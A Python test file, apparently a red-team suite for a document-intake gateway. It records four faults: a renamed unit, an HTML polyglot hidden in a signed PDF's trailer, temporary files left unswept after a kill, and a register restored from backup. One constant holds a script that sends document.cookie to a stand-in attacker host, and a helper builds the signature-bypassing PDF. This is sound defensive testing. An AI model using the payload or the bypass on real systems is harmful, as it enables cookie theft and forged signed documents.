"""Red team 102 (2026-12-06): the fixes of red teams 99-101 attacked both ways (genuine use they now break, attacks they
still let through). Each failing test is a fault found; its docstring says the attack, what was expected, what was
observed, how bad it is and where the fault lies. Its four findings, each fixed at stop 44: a unit renamed in the
configuration lost what was passed to it (a unit now owns what was passed under its name or to its mailbox); an HTML page
inside a later revision's trailer, or after an object's value, passed as signed (a tag where PDF's syntax has none now
fails the file); a file's temporary beside its target was not swept at start; a register replaced under the desk made
every page a bare 500 (now a page saying so, 503)."""

from __future__ import annotations

import re
import time
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

from sqlalchemy import select
from starlette.testclient import TestClient

from desk_kit import PASSWORD, UNITS, Clock, add_person, csrf_of, desk_app
from test_redteam100 import _as
from world import World

VN = timezone(timedelta(hours=7))


def only_assignment(world: World) -> Any:
    """The register's one document passed on, as the register has it now."""
    from registry.models import Assignment

    register = world.db()
    try:
        with register.session() as s:
            [row] = s.scalars(select(Assignment))
            return row
    finally:
        register.close()


# ---- a unit renamed in the configuration ------------------------------------------------------------------------

NOTE = "Đề nghị Phòng Tổ chức thẩm định hồ sơ, báo cáo trước ngày 20"


def test_a_unit_renamed_in_the_configuration_keeps_the_documents_passed_to_it(world: World) -> None:
    """Attack (a mistake, no attacker): a document is passed to Phòng Tổ chức cán bộ (code TC, "short and stable", as
    gateway/config.py says of a unit's code); the agency then renames the unit in `units:` (the 2025 reorganisation:
    "Phòng Tổ chức cán bộ" becomes "Phòng Tổ chức - Biên chế", its code, mailbox and people unchanged; or a typo in its
    name corrected) and restarts the desk. The unit's person opens "Văn bản được giao" and marks the document received.

    Expected: the unit's pending document still on its page, markable (the code is the unit's stable key; a rename
    is no new unit: the mail side, `Config.unit_mailbox`, falls back to the mailbox it had and still reaches it).

    Observed: red team 100's fix (gateway/web/passing_pages.py `unit_name`, gateway/passing.py `tasks`/`mark` matching
    Assignment.unit_name == the configuration's current name) hides every document passed to the unit before its
    rename: its page is empty ("no document") and marking it answers 404 / "not passed to this unit", so the lead unit
    can never say it received or finished the document (the issuer never gets its 06), and the reminders keep coming.

    Severity: medium (a routine configuration change silently takes a unit's whole backlog off its desk).
    Fault: gateway/web/passing_pages.py `unit_name` + gateway/passing.py `tasks`/`mark` (name compared as identity)."""
    world.extra["units"] = UNITS
    world.write_config()
    letter = world.mail("for-tc", attachments=[("cv.pdf", world.signed("stp", world.document(
        number="102/STP-VP", summary="V/v thẩm định hồ sơ cán bộ")))])
    [taken] = world.ingest(letter)
    assert taken["verdict"] == "accepted", taken
    number = taken["incoming_number"]
    world.run("pass", "--config", str(world.config_path), str(number), "--lead", "TC", "--note", NOTE)
    assert add_person(world, "phongtc", "unit", "TC").returncode == 0
    world.extra["units"] = [dict(UNITS[0], name="Phòng Tổ chức - Biên chế"), UNITS[1]]  # renamed; same code, people
    world.write_config()
    app, gateway = desk_app(world, Clock(time.time()))
    try:
        with TestClient(app, follow_redirects=False, base_url="http://localhost",
                        raise_server_exceptions=False) as client:
            token = _as(client, "phongtc")
            page = client.get("/unit").text
            listed = NOTE in page or f"{number}/{datetime.now(VN).year}" in page
            marked = client.post(f"/unit/{datetime.now(VN).year}/{number}/received", data={"csrf": token})
    finally:
        gateway.close()
    received = only_assignment(world).received_at
    assert listed and received is not None, (
        f"the renamed unit's page lists its document: {listed}; marking it received answered {marked.status_code}, "
        f"recorded: {received}")


# ---- bytes after a signature: the trailer of a later revision ------------------------------------------------------

HTML = b"<html><body><script>document.location='https://evil.example/?'+document.cookie</script></body></html>"


def _answered(out: dict) -> set[tuple[str, str]]:  # type: ignore[type-arg]
    return {(r["kind"], r["to"]) for r in out["replies"] if r["kind"] in ("ack", "return")}


def _revision_with_trailer_tail(signed: bytes, tail: bytes) -> bytes:
    """`signed`, then an incremental update that changes nothing (object 0 alone in its section), its trailer's
    dictionary followed, before "startxref", by `tail` (bytes no parser reads: both pyHanko and a viewer stop at the
    dictionary's end)."""
    from io import BytesIO

    from pyhanko.pdf_utils.reader import PdfFileReader

    reader = PdfFileReader(BytesIO(signed), strict=False)
    ident = re.findall(rb"/ID\s*(\[[^\]]*\])", signed)[-1]
    return signed + (b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size %d/Root %d 0 R/ID %s/Prev %d>>\n%s\n"
                     b"startxref\n%d\n%%%%EOF\n" % (reader.trailer["/Size"], reader.trailer.raw_get("/Root").idnum,
                                                    ident, reader.last_startxref, tail, len(signed)))


def test_an_html_page_inside_a_later_revisions_trailer_still_passes_as_signed(world: World) -> None:
    """Attack (red teams 96 and 99's, one step further): Sở Tư pháp's genuine signed letter, then an incremental update
    that changes nothing, whose trailer is `<</Size …/Prev …>>`, then an HTML page with its script, then ">>", then
    "startxref … %%EOF". `_REVISION_PART`'s trailer alternative is `trailer\\s*<<.*?>>\\s*(?=startxref)`: the lazy
    `.*?` stretches over anything up to the last ">>" before "startxref", so the page is taken for part of the trailer;
    pyHanko and MuPDF read the dictionary and stop at its ">>", never the page.
    Expected: `signature-modified` (bytes no revision explains after the signature), or refused: nothing numbered,
    nobody acknowledged (as red team 99's page between the revisions now is).
    Observed: accepted on its signature (modified_after false), numbered, Sở Tư pháp acknowledged, the page and its
    script stored and passed on whole under the signature's name.
    Severity: low-medium (red team 96/99's polyglot back: a page no viewer of the PDF shows rides a signed letter).
    Fault: gateway/intake/viewer_agreement.py `_REVISION_PART` (the trailer's dictionary not parsed: anything between
    "trailer" and "startxref" ending in ">>" passes). The object alternative `obj\b.*?\bendobj` is as loose: the same
    page put after the value of a new object the update's section places (`N 0 obj <<…>> <html>…</html> endobj`) was
    accepted and numbered too (checked by hand, not kept as a test)."""
    signed = world.signed("stp", world.document(number="994/STP-VP"))
    sent = _revision_with_trailer_tail(signed, HTML + b"\n>>")
    assert sent.count(HTML) == 1
    [out] = world.ingest(world.mail("html-in-trailer", auth=None, attachments=[("cv.pdf", sent)]))
    assert out["incoming_number"] is None and _answered(out) == set(), \
        (out["verdict"], out["incoming_number"], [r["code"] for r in out["reasons"]], out.get("signatures"))


# ---- half-written files of a dead process: in the store's sub-folders ---------------------------------------------

_WRITER = r"""
import os, sys, time
from pathlib import Path
from registry import files
from registry.store import ContentStore

real_fsync = os.fsync
def stalled(fd):  # the disk slow to sync a large mail: the process killed meanwhile
    real_fsync(fd)
    print("writing", flush=True)
    time.sleep(600)
os.fsync = stalled
ContentStore(Path(sys.argv[1])).put(os.urandom(8 * 1024 * 1024))
"""


def test_kill_9_while_a_mail_is_written_into_the_store_leaves_its_part_for_good(world: World) -> None:
    """Fault injected (red team 101's, through the other door): a mail within `max_mail_mb` (stored whole, by
    `ContentStore.put`, `write_atomically`) is being written into the store when its process is killed (SIGKILL: the OOM
    killer, systemd's stop timeout, a power cut) after its temporary file `.tmp-<pid>-…` was written and before it was
    renamed; the daemon is then started again, as systemd does.
    Expected: at its start the daemon removes the half-written files of dead processes (the README's table: "at each
    start the half-written files of dead processes removed"), wherever the store's writers leave them.
    Observed: `ContentStore.remove_orphans` looks in `store/sha256/` alone (where `put_chunks` writes); `put` writes its
    temporary beside its target, in `store/sha256/ab/`, which nothing sweeps: the 8 MB part stays for good, at every
    such kill (tens of MB a mail, up to max_mail_mb).
    Severity: low (a disk leak after crashes, as red team 101's). Fault: registry/store.py `remove_orphans` (one folder
    of the store's, not its sub-folders) with registry/files.py `write_atomically` (its temporary beside the target)."""
    import os
    import signal
    import subprocess
    import sys

    from test_daemon import start_daemon, stop_daemon

    store = world.root / "store"
    store.mkdir(exist_ok=True)
    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parent.parent))
    writer = subprocess.Popen([sys.executable, "-c", _WRITER, str(store)], stdout=subprocess.PIPE, env=env)
    try:
        assert writer.stdout is not None and writer.stdout.readline() == b"writing\n"
    finally:
        writer.send_signal(signal.SIGKILL)
        writer.wait()
    left = sorted(store.rglob(".tmp-*"))
    assert len(left) == 1 and left[0].name.startswith(f".tmp-{writer.pid}-"), left
    control = store / "sha256" / f".tmp-{writer.pid}-stream"  # as a killed `put_chunks` leaves it: the sweep's own
    control.write_bytes(b"x" * 1024)
    world.extra["mailboxes"] = [{"name": "vanthu", "maildir": "Maildir", "poll_seconds": 1}]
    world.write_config()
    daemon = start_daemon(world, ready=False)
    try:
        time.sleep(6)
        assert daemon.poll() is None
    finally:
        stop_daemon(daemon)
    assert not control.exists(), "the daemon's start swept nothing"
    leaked = sorted(store.rglob(".tmp-*"))
    assert leaked == [], f"half-written files of a dead process left: {[str(p.relative_to(store)) for p in leaked]}"


# ---- the register's file restored from its backup while the desk runs ---------------------------------------------

def test_the_register_restored_from_its_backup_under_the_running_desk_leaves_every_page_a_bare_500(world: World) -> None:
    """Fault injected (an operator's restore, no attacker): the daemon stopped, the SQLite register restored from its
    backup while `qlvb-gateway web` runs (README: "a failed upgrade is undone by restoring the backup"; `mv`, `cp
    --remove-destination`, `rsync`, `install` all put a new file, a new inode, at the path); the daemon restarted as the
    README says ("put back and the daemon restarted"). The clerk, logged in before, opens the desk; a colleague logs in.

    Expected: the desk serves the register at its path again, or at least says what is wrong (a 503 naming the register
    replaced, that the desk must be restarted) and `status` alerts; the README's step names the desk too.

    Observed: red team 101's `Register._still_its_file` makes every session of the desk's long-lived Register raise
    RegisterUnavailable for as long as the process lives: every page, a login included, is a bare 500 "Lỗi." (the
    error page itself cannot read the visitor); the desk's log holds the reason, `status` exits 0 (it opens the file
    afresh: a good register), and the README tells the operator to restart the daemon only.

    Severity: low-medium (the whole desk down, silently, after a documented recovery step, until someone thinks of
    restarting qlvb-gateway-web). Fault: registry/database.py `_still_its_file` (a replaced file refused for good, with
    gateway/web/app.py showing it as a bare 500) and README's recovery step."""
    import shutil
    import sqlite3

    assert add_person(world, "vanthu", "clerk", None).returncode == 0
    db = world.root / "qlvb.db"
    backup = world.root / "qlvb-before.db"
    with sqlite3.connect(db) as source, sqlite3.connect(backup) as target:
        source.backup(target)  # README: sqlite3 qlvb.db ".backup /root/qlvb-before.db"
    app, gateway = desk_app(world, Clock(time.time()))
    try:
        with TestClient(app, follow_redirects=False, base_url="http://localhost",
                        raise_server_exceptions=False) as client:
            _as(client, "vanthu")
            assert client.get("/").status_code == 200
            for suffix in ("-wal", "-shm"):
                (world.root / f"qlvb.db{suffix}").unlink(missing_ok=True)
            shutil.copy(backup, world.root / "restoring.db")
            (world.root / "restoring.db").replace(db)  # the restore: a new file at the register's path
            assert world.run("status", "--config", str(world.config_path), check=False).returncode == 0
            page = client.get("/")
            client.cookies.clear()
            token = csrf_of(client.get("/login").text)
            login = client.post("/login", data={"name": "vanthu", "password": PASSWORD, "csrf": token, "next": "/"})
    finally:
        gateway.close()
    assert 500 not in (page.status_code, login.status_code), (
        f"after the restore: the clerk's page {page.status_code} {page.text[:80]!r}; "
        f"a login {login.status_code} {login.text[:80]!r}")
